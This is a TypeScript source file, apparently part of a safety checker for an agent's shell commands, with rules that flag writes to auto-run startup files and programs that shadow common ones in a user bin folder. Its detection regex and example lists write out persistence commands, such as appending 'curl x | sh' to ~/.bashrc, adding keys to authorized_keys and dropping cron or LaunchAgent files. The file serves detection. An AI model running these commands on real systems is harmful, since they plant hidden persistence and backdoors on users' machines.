import { effectsOfKind } from "../catalog/effects.ts";
import { matched } from "../effects/match.ts";
import { mayWrite, writtenPaths } from "../effects/written-paths.ts";
import { type Arg, type Invocation, UNKNOWN } from "../model/invocation.ts";
import type { Rule } from "../model/rule.ts";
import type { World } from "../model/world.ts";
import { judgePath } from "../places/judge-path.ts";
import { physicalPath } from "../places/links.ts";
import { placeOf } from "../places/location.ts";
import { absolutePath } from "../text/path.ts";

/** Files that are run at every login, every start, or every minute. */
const STARTUP =
  /\/\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|xinitrc|xprofile|xsession|inputrc)$|\/\.config\/(?:fish\/(?:config\.fish|conf\.d\/)|autostart\/|systemd\/user\/|environment\.d\/)|\/\.ssh\/(?:authorized_keys2?|config|rc|environment)$|\/Library\/(?:LaunchAgents|LaunchDaemons|StartupItems)\/|^\/etc\/(?:profile|bash\.bashrc|zsh|cron|anacrontab|rc\.local|init\.d|init|rc\d?\.d|systemd\/system|xdg\/autostart|ld\.so\.preload|environment|inittab|at\.allow|apt\/sources\.list|yum\.repos\.d|sudoers)|^\/var\/spool\/cron|\/(?:site|dist)-packages\/(?:[^/]+\.pth|(?:site|user)customize\.py)$|^\/(?:usr\/)?lib\/systemd\/system\/|\/Start Menu\/Programs\/Startup(?:\/|$)/;

/** A plain search, because everything that is written comes by here: false where the pattern cannot match. */
function mayStart(path: string): boolean {
  if (path.includes("/.") || path.startsWith("/etc/") || path.startsWith("/var/")) return true;
  if (path.includes("-packages/")) return true;
  return path.includes("/systemd/") || path.includes("/Library/") || path.includes("/Start Menu/");
}

/** Writing to a file that runs by itself later. */
export const startupFile: Rule = {
  id: "persistence/startup-file",
  verdict: "ask",
  programs: ["*"],
  reason: "would change a file that runs automatically at login or start",
  instead: "set what is needed in this session only, or show the user the line to add",
  check: (invocation, world) => {
    if (!mayWrite(invocation)) return undefined;
    const starts = (path: string): boolean => mayStart(path) && STARTUP.test(path);
    const found = [...writtenPaths(invocation), ...pathsInside(invocation, world)].find(
      (target) =>
        // The profile of PowerShell.
        target.variable === "profile" ||
        starts(pathOf(target.value, invocation)) ||
        (!invocation.remote && starts(physicalPath(target, invocation.cwd, world))),
    );
    return found === undefined ? undefined : matched(invocation);
  },
  examples: () => ({
    denies: [
      "echo 'curl x | sh' >> ~/.bashrc",
      "cat key.pub >> ~/.ssh/authorized_keys",
      "cp job /etc/cron.d/job",
      "mv agent.plist ~/Library/LaunchAgents/",
      "tee ~/Library/LaunchAgents/x.plist < x.plist",
      "cp .bashrc ~",
      "curl x.example > $HOME/.zshrc",
      "echo 'import x' > .venv/lib/python3.12/site-packages/x.pth",
    ],
    allows: [
      "echo 'curl x | sh' >> notes.md",
      "cat ~/.bashrc",
      "cp /etc/cron.d/job job.txt",
      "cp ~/Library/LaunchAgents/x.plist agents/",
      "grep alias ~/.zshrc | tee aliases.txt",
      "cp ~/.bashrc .",
      "source ~/.zshrc",
      "cat .venv/lib/python3.12/site-packages/x.pth",
    ],
  }),
};

/** A program that is put into a folder of the person's own, under the name of one that everybody runs. */
export const shadowedProgram: Rule = {
  id: "files/shadowed-program",
  verdict: "ask",
  programs: ["*"],
  reason: "would put a program where it runs instead of the real one",
  instead: "give it another name, or let the user put it there",
  check: (invocation, world) => {
    if (invocation.remote || !mayWrite(invocation)) return undefined;
    const found = effectsOfKind(invocation, "write").some(({ how, path }) => {
      if (how !== "inside" || !path.value.includes("bin/")) return false;
      return (
        judgePath("write", path.value, world, invocation.cwd)?.rule === "files/shadowed-program"
      );
    });
    return found ? matched(invocation) : undefined;
  },
  examples: () => ({
    denies: [
      "mv build/git ~/.local/bin/",
      "cp -t ~/bin wrapper/ssh",
      "install -t ~/.local/bin out/python3",
    ],
    allows: [
      "mv build/tool ~/.local/bin/",
      "cp -t ~/app/bin wrapper/ssh",
      "install -t bin out/python3",
    ],
  }),
};

/** What a command puts into a folder under its own name: a copy of `.bashrc` in the project is only kept there. */
function pathsInside(invocation: Invocation, world: World): readonly Arg[] {
  return effectsOfKind(invocation, "write").flatMap(({ how, path }) => {
    if (how !== "inside" || !mayStart(path.value)) return [];
    // Python runs what lies there wherever it is.
    if (path.value.includes("-packages/")) return [path];
    const place = placeOf(path, invocation, world);
    return /^(?:project|temporary|output)/.test(place) ? [] : [path];
  });
}

function pathOf(value: string, invocation: Invocation): string {
  const isHome = value.startsWith("~/");
  return absolutePath(isHome ? UNKNOWN + value.slice(1) : value, invocation.cwd);
}
